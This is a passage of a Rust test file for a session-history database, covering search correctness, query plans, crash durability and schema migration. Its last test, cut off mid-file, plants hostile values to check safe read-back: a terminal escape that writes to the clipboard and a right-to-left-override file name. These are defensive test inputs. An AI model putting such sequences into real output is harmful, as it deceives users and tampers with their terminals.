        "SELECT created_at / 86400000, COUNT(*) FROM sessions WHERE created_at >= ? AND created_at < ? GROUP BY 1",
    ];
    // Links per day: a count per day on the creation index, no sort.
    let plan = store
        .explain(
            "WITH RECURSIVE days(d) AS (SELECT ?1 / 86400000 UNION ALL SELECT d + 1 FROM days \
             WHERE d + 1 < ?2 / 86400000) SELECT d, (SELECT COUNT(*) FROM sessions \
             WHERE created_at >= d * 86400000 AND created_at < (d + 1) * 86400000 \
             AND profile = ?3) FROM days",
        )
        .unwrap();
    assert!(!plan.contains("TEMP B-TREE"), "{plan}");
    assert!(plan.contains("COVERING INDEX"), "{plan}");
    // A search walks the trigram index newest first and never sorts its matches.
    let plan = store
        .explain(
            "SELECT s.id FROM sessions_fts JOIN sessions s ON s.id = sessions_fts.rowid \
             WHERE sessions_fts MATCH ? AND s.profile = ? ORDER BY sessions_fts.rowid DESC LIMIT 10",
        )
        .unwrap();
    assert!(!plan.contains("TEMP B-TREE"), "{plan}");
    assert!(
        plan.contains("SEARCH s USING INTEGER PRIMARY KEY"),
        "{plan}"
    );
    for sql in plans {
        let plan = store.explain(sql).unwrap();
        for line in plan.lines().filter(|l| l.contains("sessions")) {
            assert!(line.contains("INDEX"), "{sql}\n{plan}");
        }
        if sql.contains("expires_at > ?") || sql.contains("session_id >= ?") {
            assert!(
                plan.contains("SEARCH"),
                "a range, not a scan: {sql}\n{plan}"
            );
        }
        if sql.contains("ORDER BY created_at DESC") || sql.contains("decided_at DESC") {
            assert!(
                !plan.contains("TEMP B-TREE"),
                "a sort of every row: {sql}\n{plan}"
            );
        }
    }
}

/// The body of a child process of `concurrent_writers_lose_nothing`, which starts this
/// binary with `--include-ignored` to run it; not a test of its own.
#[test]
#[ignore = "child process of history::concurrent_writers_lose_nothing, which starts it"]
fn concurrent_writer() {
    let path = std::env::var("VERIFF_TUI_TEST_WRITER_DB")
        .expect("started by concurrent_writers_lose_nothing, which names the database");
    let tag = std::env::var("VERIFF_TUI_TEST_WRITER_TAG").unwrap();
    let store = Store::open(Path::new(&path)).unwrap();
    for i in 0..200 {
        let mut s = spec("Writer", "Child", Utc::now());
        s.session_id = format!("{tag}-{i:04}");
        add(&store, &s);
    }
}

#[test]
fn concurrent_writers_lose_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("shared").join("history.sqlite3");
    let exe = std::env::current_exe().unwrap();
    let mut children: Vec<_> = ["a", "b"]
        .iter()
        .map(|tag| {
            Command::new(&exe)
                .args([
                    "--exact",
                    "history::concurrent_writer",
                    "--nocapture",
                    "--include-ignored",
                ])
                .env("VERIFF_TUI_TEST_WRITER_DB", &path)
                .env("VERIFF_TUI_TEST_WRITER_TAG", tag)
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut outputs = Vec::new();
    for child in &mut children {
        loop {
            if child.try_wait().unwrap().is_some() {
                break;
            }
            if Instant::now() > deadline {
                let _ = child.kill();
                panic!("a writer did not finish in time");
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    for child in children {
        let out = child.wait_with_output().unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(out.status.success(), "writer failed:\n{text}");
        assert!(
            text.contains("1 passed"),
            "the writer test did not run:\n{text}"
        );
        outputs.push(text);
    }
    let store = Store::open(&path).unwrap();
    assert_eq!(store.count(&Query::default()).unwrap(), 400);
    for tag in ["a", "b"] {
        let q = Query {
            search: Some(format!("{tag}-01")),
            ..Default::default()
        };
        assert_eq!(store.count(&q).unwrap(), 100, "{tag}");
    }
    let counts = store.status_counts(None, Utc::now()).unwrap();
    assert_eq!(count_of(&counts, &SessionStatus::Created), 400);
}

/// The body of a child process of `sigkill_mid_write_loses_nothing_committed`, which starts
/// this binary with `--include-ignored` to run it; not a test of its own. Writes until
/// killed (or 60 s pass, should the parent be gone).
#[test]
#[ignore = "child process of history::sigkill_mid_write_loses_nothing_committed, which starts it"]
fn endless_writer() {
    let path = std::env::var("VERIFF_TUI_TEST_ENDLESS_DB")
        .expect("started by sigkill_mid_write_loses_nothing_committed, which names the database");
    let store = Store::open(Path::new(&path)).unwrap();
    let started = Instant::now();
    let mut i = 0u32;
    while started.elapsed() < Duration::from_secs(60) {
        let mut s = spec("Killed", "Writer", Utc::now());
        s.session_id = format!("k-{i:06}");
        add(&store, &s);
        i += 1;
    }
}

#[cfg(unix)]
#[test]
fn sigkill_mid_write_loses_nothing_committed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.sqlite3");
    let mut child = Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "history::endless_writer",
            "--nocapture",
            "--include-ignored",
        ])
        .env("VERIFF_TUI_TEST_ENDLESS_DB", &path)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let committed = loop {
        let n = Store::open(&path)
            .ok()
            .and_then(|s| s.count(&Query::default()).ok())
            .unwrap_or(0);
        if n >= 100 {
            break n;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("the writer never got going");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    // Child::kill is SIGKILL on unix: no destructor, no checkpoint, maybe mid-transaction.
    child.kill().unwrap();
    child.wait().unwrap();

    let store = Store::open(&path).unwrap();
    let after = store.count(&Query::default()).unwrap();
    assert!(after >= committed, "{after} < {committed}");
    for i in 0..committed {
        let id = format!("k-{i:06}");
        assert!(
            store.find_by_session_id(&id).unwrap().is_some(),
            "{id} lost"
        );
    }
    let raw = rusqlite::Connection::open(&path).unwrap();
    let check: String = raw
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(check, "ok");
    let fts: i64 = raw
        .query_row(
            "SELECT COUNT(*) FROM sessions_fts WHERE sessions_fts MATCH '\"Killed\"'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(fts as u64, after, "the search index matches the rows");
}

/// Terms of 1-2 characters are answered from the short-substring index: every short
/// substring of a field, ignoring case in any script, at the end of a value and in
/// values shorter than a trigram; newest first, paged, counted and deleted like any search.
#[test]
fn short_terms_use_their_own_index() {
    let (_dir, store) = temp_store();
    let day = t(2026, 3, 1, 0);
    add(&store, &spec("Li", "Wei", day));
    add(&store, &spec("伟", "王", day + ChronoDuration::hours(1)));
    add(
        &store,
        &spec("Zoë", "Ångström", day + ChronoDuration::hours(2)),
    );
    let mut v = spec("Vendor", "Row", day + ChronoDuration::hours(3));
    v.vendor = "ORD-2026-77";
    add(&store, &v);
    let mut other = spec("Olli", "Lind", day + ChronoDuration::hours(4));
    other.profile = "live";
    add(&store, &other);

    assert_eq!(search(&store, "li"), ["Olli", "Li"], "a 2-character value");
    assert_eq!(search(&store, "LI"), ["Olli", "Li"]);
    assert_eq!(search(&store, "王"), ["伟"], "one wide character");
    assert_eq!(search(&store, "伟"), ["伟"]);
    assert_eq!(search(&store, "å"), ["Zoë"], "unicode case folding");
    assert_eq!(search(&store, "Ë"), ["Zoë"]);
    assert_eq!(search(&store, "öm"), ["Zoë"], "the last two characters");
    assert_eq!(search(&store, "77"), ["Vendor"], "vendor data");
    assert_eq!(search(&store, "-2"), ["Vendor"], "punctuation");
    assert_eq!(search(&store, "qz"), Vec::<String>::new());
    assert_eq!(search(&store, "ei li"), ["Li"], "short terms are ANDed");
    assert_eq!(search(&store, "li wei"), ["Li"], "short beside long");

    let li = Query {
        search: Some("li".into()),
        limit: 1,
        ..Default::default()
    };
    assert_eq!(store.count(&li).unwrap(), 2);
    assert_eq!(store.count_up_to(&li, 1).unwrap(), 1);
    let first = store.page_after(&li, None).unwrap();
    assert_eq!(first[0].first_name, "Olli");
    let second = store.page_after(&li, Some(first[0].cursor())).unwrap();
    assert_eq!(second[0].first_name, "Li");
    assert!(
        store
            .page_after(&li, Some(second[0].cursor()))
            .unwrap()
            .is_empty()
    );
    let live = Query {
        search: Some("l".into()),
        profile: Some("live".into()),
        ..Default::default()
    };
    assert_eq!(store.count(&live).unwrap(), 1);

    assert!(store.delete(first[0].id).unwrap());
    assert_eq!(search(&store, "li"), ["Li"], "the index follows deletes");
    assert_eq!(store.count(&li).unwrap(), 1);

    let plan = store
        .explain(
            "SELECT s.id FROM sessions_grams JOIN sessions s ON s.id = sessions_grams.rowid \
             WHERE sessions_grams MATCH ? ORDER BY sessions_grams.rowid DESC LIMIT 10",
        )
        .unwrap();
    assert!(!plan.contains("TEMP B-TREE"), "{plan}");
    assert!(plan.contains("VIRTUAL TABLE"), "{plan}");
}

/// A history written before the short-substring index (schema 1) gets it on open.
#[test]
fn opening_a_version_1_history_indexes_its_records_for_short_terms() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("h.sqlite3");
    {
        let store = Store::open(&path).unwrap();
        add(&store, &spec("Li", "Wei", t(2026, 1, 1, 0)));
        add(&store, &spec("Jo", "Ng", t(2026, 1, 2, 0)));
    }
    {
        // What schema 1 looked like: no short-substring index (schema 2), no index of a
        // profile's decisions (schema 3), no table of requests in flight (schema 4).
        let raw = rusqlite::Connection::open(&path).unwrap();
        // Nor the extra fields and their place in the trigram index (schema 5), nor the
        // inspections kept (schema 6), nor webhook deliveries (schema 7), nor the change
        // log (schema 8), nor batches (schema 9), nor the shared history's outbox (10).
        raw.execute_batch(
            "DROP TRIGGER outbox_intent_gone; DROP TRIGGER outbox_record_gone; DROP TABLE outbox; \
             DROP TRIGGER changes_insert; DROP TRIGGER changes_update; \
             DROP TRIGGER changes_delete; DROP TABLE changes; \
             DROP TRIGGER batch_rows_intent_gone; DROP TRIGGER batch_rows_record_gone; \
             DROP TABLE batch_rows; DROP TABLE batches; \
             DROP TRIGGER sessions_grams_delete; DROP TABLE sessions_grams; \
             DROP INDEX sessions_profile_decided; DROP TABLE intents; \
             DROP TRIGGER inspections_delete; DROP TABLE inspections; \
             DROP TABLE deliveries; ALTER TABLE sessions DROP COLUMN made_elsewhere; \
             DROP TRIGGER sessions_fts_insert; DROP TRIGGER sessions_fts_delete; \
             DROP TRIGGER sessions_fts_update; DROP TABLE sessions_fts; \
             ALTER TABLE sessions DROP COLUMN extra; ALTER TABLE sessions DROP COLUMN search_extra; \
             CREATE VIRTUAL TABLE sessions_fts USING fts5 (first_name, last_name, session_id, \
                 vendor_data, content = 'sessions', content_rowid = 'id', tokenize = 'trigram'); \
             INSERT INTO sessions_fts (sessions_fts) VALUES ('rebuild'); \
             CREATE TRIGGER sessions_fts_insert AFTER INSERT ON sessions BEGIN \
                 INSERT INTO sessions_fts (rowid, first_name, last_name, session_id, vendor_data) \
                 VALUES (new.id, new.first_name, new.last_name, new.session_id, new.vendor_data); END; \
             CREATE TRIGGER sessions_fts_delete AFTER DELETE ON sessions BEGIN \
                 INSERT INTO sessions_fts (sessions_fts, rowid, first_name, last_name, session_id, vendor_data) \
                 VALUES ('delete', old.id, old.first_name, old.last_name, old.session_id, old.vendor_data); END; \
             CREATE TRIGGER sessions_fts_update AFTER UPDATE OF first_name, last_name, session_id, vendor_data ON sessions BEGIN \
                 INSERT INTO sessions_fts (sessions_fts, rowid, first_name, last_name, session_id, vendor_data) \
                 VALUES ('delete', old.id, old.first_name, old.last_name, old.session_id, old.vendor_data); \
                 INSERT INTO sessions_fts (rowid, first_name, last_name, session_id, vendor_data) \
                 VALUES (new.id, new.first_name, new.last_name, new.session_id, new.vendor_data); END; \
             PRAGMA user_version = 1;",
        )
        .unwrap();
    }
    let store = Store::open(&path).unwrap();
    assert_eq!(search(&store, "li"), ["Li"]);
    assert_eq!(search(&store, "ng"), ["Jo"]);
    // The trigram index made anew (schema 5) still holds the old records.
    assert_eq!(search(&store, "wei"), ["Li"]);
    add(&store, &spec("Lia", "X", t(2026, 1, 3, 0)));
    assert_eq!(search(&store, "li"), ["Lia", "Li"]);
}

fn first_page_and_count_agrees_with_page_and_count_up_to(store: &Store) {
    let day = t(2026, 4, 1, 0);
    for h in 0..7 {
        add(store, &spec("Smith", "Row", day + ChronoDuration::hours(h)));
    }
    add(store, &spec("Rare", "One", day + ChronoDuration::hours(8)));
    for (text, limit, cap) in [
        ("smith", 3, 5),
        ("smith", 3, 100),
        ("smith", 10, 100),
        ("smith", 10, 4),
        ("smith", 0, 0),
        ("rare", 5, 100),
        ("nothing", 5, 100),
        ("", 3, 0),
    ] {
        let q = Query {
            search: Some(text.into()),
            limit,
            ..Default::default()
        };
        let (page, n) = store.first_page_and_count(&q, cap).unwrap();
        assert_eq!(page, store.page(&q).unwrap(), "{text} {limit} {cap}");
        assert_eq!(
            n,
            store.count_up_to(&q, cap).unwrap(),
            "{text} {limit} {cap}"
        );
    }
}

fn a_page_found_by_reading_every_match_says_how_many_there_are(store: &Store) {
    // Enough others that reading the rare term's few candidates beats walking them.
    let day = t(2026, 4, 2, 0);
    for m in 0..200 {
        add(
            store,
            &spec("Common", "Row", day + ChronoDuration::minutes(m)),
        );
    }
    for m in 0..3 {
        add(
            store,
            &spec("Zebulon", "Rare", day + ChronoDuration::minutes(300 + m)),
        );
    }
    let q = Query {
        search: Some("zebulon".into()),
        limit: 2,
        ..Default::default()
    };
    let page = store.page_counted(&q).unwrap();
    assert_eq!(page.rows, store.page(&q).unwrap());
    assert_eq!(page.rows.len(), 2);
    if store.is_shared() {
        // A rare term is asked of the indexes, whose candidates are all read to find
        // the newest: counted on the way.
        assert_eq!(page.total, Some(3));
    } else {
        // SQLite's trigram walk stops with the page: only a count says.
        assert_eq!(page.total, None);
    }
    assert_eq!(store.first_page_and_count(&q, 100).unwrap(), (page.rows, 3));
    // A page shorter than asked for ends the list, on either store.
    let q = Query { limit: 10, ..q };
    assert_eq!(store.page_counted(&q).unwrap().total, Some(3));
    // Past the end: nothing said of the total.
    let q = Query { offset: 5, ..q };
    assert_eq!(store.page_counted(&q).unwrap().total, None);
    // A walk (a common term) says nothing of a full page either.
    let q = Query {
        search: Some("common".into()),
        limit: 5,
        ..Default::default()
    };
    assert_eq!(store.page_counted(&q).unwrap().total, None);
}

/// Like `spec` but with its own ids (letters and digits the searches below cannot hit),
/// so the shared id counter moves no further: other tests' searches for digits would
/// otherwise start hitting the ids.
fn own_spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> Spec<'static> {
    static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    Spec {
        first,
        last,
        vendor: "",
        session_id: format!("eeee{n:04x}-eeee-4eee-8eee-eeeeeeeeeeee"),
        created,
        profile: "test",
    }
}

fn a_term_is_matched_whole_not_by_its_trigrams(store: &Store) {
    let day = t(2026, 5, 1, 0);
    // Every trigram of "abcab" (abc, bca, cab), but never the term itself.
    add(store, &own_spec("Abca", "Cab", day));
    add(
        store,
        &own_spec("abca cab", "x", day + ChronoDuration::hours(1)),
    );
    let mut scattered = own_spec("Scattered", "Id", day + ChronoDuration::hours(2));
    scattered.vendor = "55073818 cust-0";
    add(store, &scattered);
    assert!(search(store, "abcab").is_empty());
    assert!(search(store, "cust-55073818").is_empty());
    assert_eq!(
        store
            .count(&Query {
                search: Some("cust-55073818".into()),
                ..Default::default()
            })
            .unwrap(),
        0
    );

    add(
        store,
        &own_spec("xABCABx", "Whole", day + ChronoDuration::hours(3)),
    );
    let mut id = own_spec("Id", "Whole", day + ChronoDuration::hours(4));
    id.vendor = "CUST-55073818";
    add(store, &id);
    assert_eq!(search(store, "abCAB"), ["xABCABx"]);
    assert_eq!(search(store, "cust-55073818"), ["Id"]);
    assert_eq!(search(store, "cust-55073818 whole"), ["Id"]);
    assert!(search(store, "cust-55073818 abcab").is_empty());
}

/// Whatever way a search is run (in SQLite by rare trigrams, or the whole phrase when
/// every trigram is common; on PostgreSQL walking the newest records, or asking an index
/// for the candidates of a term's rarest parts), it answers what a plain scan of every row
/// answers.
fn searches_agree_with_a_plain_scan(store: &Store) {
    use veriff_tui::history::seed::{SeedOptions, fill_store};
    fill_store(
        store,
        &SeedOptions {
            count: 2000,
            seed: 7,
            end: t(2026, 6, 1, 0),
        },
    )
    .unwrap();
    let all = store
        .page(&Query {
            limit: 0,
            ..Default::default()
        })
        .unwrap();
    let vendor = all
        .iter()
        .find(|r| r.vendor_data.starts_with("cust-"))
        .map(|r| r.vendor_data.clone())
        .unwrap();
    let sid = all[all.len() / 2].session_id[..8].to_string();
    let queries = [
        vendor.clone(),
        vendor.to_uppercase(),
        format!("{} anna", &vendor[..9]),
        vendor[2..].to_string(),
        "cust-".into(),
        "cust-1".into(),
        sid,
        "smith".into(),
        "anna smith".into(),
        "ann a".into(),
        "zqxjv".into(),
        "er".into(),
        "qz".into(),
        "佐藤".into(),
        "-".into(),
    ];
    for text in &queries {
        let terms: Vec<String> = text.split_whitespace().map(str::to_lowercase).collect();
        let mut expected: Vec<i64> = all
            .iter()
            .filter(|r| {
                let fields = [&r.first_name, &r.last_name, &r.session_id, &r.vendor_data]
                    .map(|f| f.to_lowercase());
                terms
                    .iter()
                    .all(|t| fields.iter().any(|f| f.contains(t.as_str())))
            })
            .map(|r| r.id)
            .collect();
        expected.sort_unstable_by(|a, b| b.cmp(a));
        let q = Query {
            search: Some(text.clone()),
            limit: 0,
            ..Default::default()
        };
        let got: Vec<i64> = store.page(&q).unwrap().iter().map(|r| r.id).collect();
        assert_eq!(got, expected, "{text:?}");
        let n = expected.len() as u64;
        assert_eq!(store.count(&q).unwrap(), n, "{text:?}");
        assert_eq!(store.count_up_to(&q, 3).unwrap(), n.min(3), "{text:?}");

        // Page by page, by offset and by cursor.
        let paged = Query {
            limit: 7,
            ..q.clone()
        };
        let (first, capped) = store.first_page_and_count(&paged, 10).unwrap();
        let want: Vec<i64> = expected.iter().copied().take(7).collect();
        assert_eq!(
            first.iter().map(|r| r.id).collect::<Vec<_>>(),
            want,
            "{text:?}"
        );
        assert_eq!(capped, n.min(10), "{text:?}");
        let second = store
            .page_after(&paged, first.last().map(|r| r.cursor()))
            .unwrap();
        let by_offset = store
            .page(&Query {
                offset: 7,
                ..paged.clone()
            })
            .unwrap();
        let want: Vec<i64> = expected.iter().copied().skip(7).take(7).collect();
        if !first.is_empty() {
            assert_eq!(
                second.iter().map(|r| r.id).collect::<Vec<_>>(),
                want,
                "{text:?}"
            );
        }
        assert_eq!(
            by_offset.iter().map(|r| r.id).collect::<Vec<_>>(),
            want,
            "{text:?}"
        );
    }
}

/// The reference answer for a search of 3+ character terms: the FTS5 phrase query the
/// store ran before searches were planned by rare trigrams (each term a quoted phrase,
/// ANDed), on a connection of its own. Ids, newest first.
fn phrase_ids(path: &Path, text: &str, profile: Option<&str>) -> Vec<i64> {
    let conn = rusqlite::Connection::open(path).unwrap();
    let phrase: Vec<String> = text
        .split_whitespace()
        .map(|t| format!("\"{}\"", t.replace('"', "\"\"")))
        .collect();
    let mut st = conn
        .prepare(
            "SELECT s.id FROM sessions_fts JOIN sessions s ON s.id = sessions_fts.rowid \
             WHERE sessions_fts MATCH ?1 AND (?2 IS NULL OR s.profile = ?2) ORDER BY s.id DESC",
        )
        .unwrap();
    st.query_map(rusqlite::params![phrase.join(" "), profile], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap()
}

/// Checks every way the store answers `text` (whole list, count, capped count, first page
/// and count, the next page by cursor and by offset) against [`phrase_ids`].
fn assert_like_phrase(store: &Store, path: &Path, text: &str, profile: Option<&str>) {
    let expected = phrase_ids(path, text, profile);
    let why = format!("{text:?} in {profile:?}");
    let q = Query {
        search: Some(text.into()),
        profile: profile.map(str::to_string),
        batch: None,
        mine: false,
        limit: 0,
        offset: 0,
        ..Default::default()
    };
    let ids = |rows: Vec<Record>| rows.iter().map(|r| r.id).collect::<Vec<_>>();
    assert_eq!(ids(store.page(&q).unwrap()), expected, "{why}");
    let n = expected.len() as u64;
    assert_eq!(store.count(&q).unwrap(), n, "{why}");
    assert_eq!(store.count_up_to(&q, 3).unwrap(), n.min(3), "{why}");
    let paged = Query { limit: 4, ..q };
    let (first, capped) = store.first_page_and_count(&paged, 6).unwrap();
    let cursor = first.last().map(|r| r.cursor());
    assert_eq!(
        ids(first),
        expected.iter().copied().take(4).collect::<Vec<_>>()
    );
    assert_eq!(capped, n.min(6), "{why}");
    let want: Vec<i64> = expected.iter().copied().skip(4).take(4).collect();
    if cursor.is_some() {
        assert_eq!(
            ids(store.page_after(&paged, cursor).unwrap()),
            want,
            "{why}"
        );
    }
    let by_offset = Query { offset: 4, ..paged };
    assert_eq!(ids(store.page(&by_offset).unwrap()), want, "{why}");
}

/// A seeded history (every profile, names in eight scripts, vendor-data ids) plus rows
/// whose case folding Rust and SQLite's trigram tokenizer would disagree on.
fn seeded_store_with_odd_rows() -> (tempfile::TempDir, Store, PathBuf) {
    use veriff_tui::history::seed::{SeedOptions, fill_store};
    let (dir, store) = temp_store();
    let path = dir.path().join("history.sqlite3");
    fill_store(
        &store,
        &SeedOptions {
            count: 3000,
            seed: 11,
            end: t(2026, 6, 1, 0),
        },
    )
    .unwrap();
    let day = t(2026, 6, 2, 0);
    let odd: [(&str, &str, &str); 9] = [
        // Final sigma: SQLite folds it to σ, Rust keeps it.
        ("Σίσυφος", "Οδυσσεύς", ""),
        // Kelvin sign and long s fold to ASCII k and s in SQLite.
        ("\u{212A}elvin", "ſmith", ""),
        // Dotted capital I: Rust lowercases it to two characters, SQLite leaves it.
        ("İstanbul", "Ayşe", ""),
        ("O\"Brien", "\"Quoted\"", "say \"hi\""),
        ("Nul", "Byte", "ab\0cdef-5507"),
        ("佐藤花子", "山田", "cust-55073818"),
        // Every trigram of cust-55073818, never the id itself.
        ("Scattered", "Id", "55073818 cust-0 t-550"),
        ("Anna", "Smyth", "ord-2026-smith"),
        ("\u{10400}eseret", "Smith", ""),
    ];
    for (i, (first, last, vendor)) in odd.iter().enumerate() {
        let mut s = spec(first, last, day + ChronoDuration::minutes(i as i64));
        s.vendor = vendor;
        s.profile = if i % 2 == 0 { "production" } else { "staging" };
        add(&store, &s);
    }
    (dir, store, path)
}

const PHRASE_QUERIES: &[&str] = &[
    "cust-55073818",
    "CUST-55073818",
    "cust-5507",
    "55073818",
    "cust-",
    "smith",
    "anna smith",
    "SMITH anna",
    "smit",
    "smi",
    "ſmith",
    "kelvin",
    "\u{212A}ELVIN",
    "σίσυφοσ",
    "ΣΊΣΥΦΟΣ",
    "σίσυφος",
    "εύς",
    "İst",
    "ist",
    "o\"brien",
    "\"quoted\"",
    "\"hi\"",
    "abcdef",
    "佐藤花子",
    "藤花子 cust-5507",
    "𐐨eseret",
    "zqxjv",
    "ord-2026",
    "an\"",
];

/// Searches planned by rare trigrams answer exactly what the FTS5 phrase query answers:
/// substrings ignoring case as the trigram tokenizer folds it, in one field per term,
/// newest first, with and without a profile.
#[test]
fn searches_agree_with_the_phrase_query() {
    let (_dir, store, path) = seeded_store_with_odd_rows();
    for text in PHRASE_QUERIES {
        for profile in [None, Some("production"), Some("staging")] {
            assert_like_phrase(&store, &path, text, profile);
        }
    }
    // The odd rows are found at all (the comparison above would pass on two empty lists).
    let found = |text: &str| phrase_ids(&path, text, None).len();
    for (text, n) in [
        ("σίσυφοσ", 1),
        ("kelvin", 1),
        ("ſmith", found("smith")),
        ("o\"brien", 1),
        ("abcdef", 1),
        ("cust-55073818", found("cust-55073818")),
        ("İst", 1),
        ("ist", 0),
    ] {
        assert_eq!(
            store
                .count(&Query {
                    search: Some(text.into()),
                    ..Default::default()
                })
                .unwrap(),
            n as u64,
            "{text:?}"
        );
    }
    assert!(found("cust-55073818") >= 1);
    assert!(found("smith") > 50);
    // A NUL in a term is skipped, as the tokenizer skips it in the rows (the phrase query
    // itself cannot hold one: its parser ends the string there).
    for profile in [None, Some("production")] {
        let q = |text: &str| Query {
            search: Some(text.into()),
            profile: profile.map(str::to_string),
            batch: None,
            mine: false,
            limit: 0,
            offset: 0,
            ..Default::default()
        };
        assert_eq!(
            store.page(&q("ab\0cdef")).unwrap(),
            store.page(&q("abcdef")).unwrap()
        );
        assert_eq!(store.page(&q("ab\0cdef")).unwrap().len(), 1);
        assert_eq!(store.count(&q("a\0bc\0def")).unwrap(), 1);
    }
}

/// The trigram samples are kept across searches; rows changed, deleted or added after
/// they were taken still give exact answers (the samples only steer the plan).
#[test]
fn searches_stay_exact_after_rows_change_under_the_samples() {
    let (_dir, store, path) = seeded_store_with_odd_rows();
    let texts = [
        "cust-55073818",
        "smith",
        "anna smith",
        "cust-5507",
        "σίσυφοσ",
    ];
    for text in texts {
        assert_like_phrase(&store, &path, text, Some("production"));
        assert_like_phrase(&store, &path, text, None);
    }
    // Change the rows behind those samples: a vendor-data id rewritten (the triggers
    // keep the index in step), the odd rows deleted, a new id added.
    let hit = phrase_ids(&path, "cust-55073818", None);
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute(
        "UPDATE sessions SET vendor_data = 'cust-00000000' WHERE id = ?",
        [hit[0]],
    )
    .unwrap();
    conn.execute(
        "UPDATE sessions SET vendor_data = 'CUST-55073818' WHERE id = (SELECT min(id) FROM sessions)",
        [],
    )
    .unwrap();
    drop(conn);
    for id in phrase_ids(&path, "σίσυφοσ", None) {
        assert!(store.delete(id).unwrap());
    }
    let mut s = spec("Late", "Smith", t(2026, 7, 1, 0));
    s.vendor = "cust-55073818";
    s.profile = "production";
    let late = add(&store, &s);
    for text in texts {
        assert_like_phrase(&store, &path, text, Some("production"));
        assert_like_phrase(&store, &path, text, None);
    }
    assert_eq!(phrase_ids(&path, "σίσυφοσ", None), Vec::<i64>::new());
    assert_eq!(phrase_ids(&path, "cust-55073818", None)[0], late.id);

    // Enough new rows that the samples are retaken.
    use veriff_tui::history::seed::{SeedOptions, fill_store};
    fill_store(
        &store,
        &SeedOptions {
            count: 1500,
            seed: 12,
            end: t(2026, 8, 1, 0),
        },
    )
    .unwrap();
    for text in texts {
        assert_like_phrase(&store, &path, text, Some("production"));
        assert_like_phrase(&store, &path, text, None);
    }
}

fn an_intent_becomes_a_record_completed_forgotten_or_unknown(store: &Store) {
    use veriff_tui::history::NewIntent;
    let ids = |store: &Store, s: &str| -> Vec<String> {
        found(store, s).into_iter().map(|r| r.session_id).collect()
    };
    let input = SessionInput {
        first_name: "Ann".into(),
        last_name: "Lee".into(),
        lang: "en".into(),
        selfid: true,
        callback: String::new(),
        vendor_data: "order-7".into(),
        extra: Default::default(),
    };
    let intent = |store: &Store| {
        store
            .record_intent(
                &NewIntent {
                    profile: "test",
                    base_url: "https://stationapi.veriff.com",
                    sandbox: false,
                    input: &input,
                },
                Utc::now(),
            )
            .unwrap()
    };
    let total = |store: &Store| store.count(&Query::default()).unwrap();

    // Answered: the record of the session, found by its id (both search indexes).
    let answered = intent(store);
    assert_eq!(total(store), 0, "an intent in flight is no record yet");
    let session = CreatedSession {
        id: "d00dfeed-0000-4000-8000-00000000beef".into(),
        url: "https://alchemy.veriff.com/v/tok".into(),
        host: None,
        session_token: None,
        vendor_data: None,
        status: Some("created".into()),
        created_at: Utc::now(),
        expires_at: Utc::now() + ChronoDuration::days(7),
    };
    let new = NewRecord {
        profile: "test",
        base_url: "https://stationapi.veriff.com",
        sandbox: false,
        input: &input,
        session: &session,
    };
    let done = store.complete_intent(answered, &new).unwrap();
    assert_eq!(store.get(done.id).unwrap().unwrap(), done);
    assert_eq!(ids(store, "d00dfeed"), vec![session.id.clone()]);
    assert_eq!(
        ids(store, "be"),
        vec![session.id.clone()],
        "short words too"
    );
    assert_eq!(store.pending(Some("test"), 10).unwrap().len(), 1);
    assert_eq!(
        store.give_up_intent(answered, "late").unwrap(),
        None,
        "it is gone"
    );

    // Refused: nothing stays.
    let refused = intent(store);
    store.forget_intent(refused).unwrap();
    assert_eq!(store.give_up_intent(refused, "late").unwrap(), None);
    assert_eq!(total(store), 1);

    // No usable answer: a record whose outcome is unknown, saying why; listed, counted, found
    // by name, never asked about.
    let timed_out = intent(store);
    let unknown = store
        .give_up_intent(timed_out, "the request timed out after 30 s")
        .unwrap()
        .unwrap();
    assert_eq!(unknown.status, SessionStatus::Unknown);
    assert!(!unknown.has_link());
    assert_eq!(store.get(unknown.id).unwrap().unwrap(), unknown);
    assert_eq!(
        unknown.check_error.as_deref(),
        Some("the request timed out after 30 s")
    );
    assert_eq!(ids(store, "ann").len(), 2);
    assert_eq!(store.pending(Some("test"), 10).unwrap().len(), 1);
    let counts = store.status_counts(Some("test"), Utc::now()).unwrap();
    assert!(counts.contains(&(SessionStatus::Unknown, 1)), "{counts:?}");

    // Killed before an answer: ours is alive, so opening the history again leaves it; one
    // whose process is gone is given up by the next open.
    let ours = intent(store);
    drop(reopen(store));
    assert_eq!(
        total(store),
        2,
        "the intent of a living process is left alone"
    );
    write_behind(
        store,
        &format!("UPDATE intents SET pid = 999999999 WHERE id = {ours}"),
    );
    let reopened = reopen(store);
    assert_eq!(total(&reopened), 3);
    let orphan = found(&reopened, "ann")
        .into_iter()
        .find(|r| r.id != unknown.id && r.status == SessionStatus::Unknown)
        .unwrap();
    assert!(
        orphan
            .check_error
            .unwrap()
            .contains("ended before an answer"),
        "why it is unknown"
    );
}

#[test]
fn text_written_into_the_file_by_anything_else_is_read_back_safe() {
    let (dir, store) = temp_store();
    let r = add(&store, &spec("Ann", "Lee", t(2026, 1, 2, 3)));
    let conn = rusqlite::Connection::open(dir.path().join("history.sqlite3")).unwrap();
    conn.execute(
        "UPDATE sessions SET first_name = ?1, vendor_data = ?2, decision_reason = ?3 WHERE id = ?4",
        rusqlite::params![
            "An\u{1b}]52;c;aGk=\u{7}n",
            "gpj\u{202E}exe.txt",
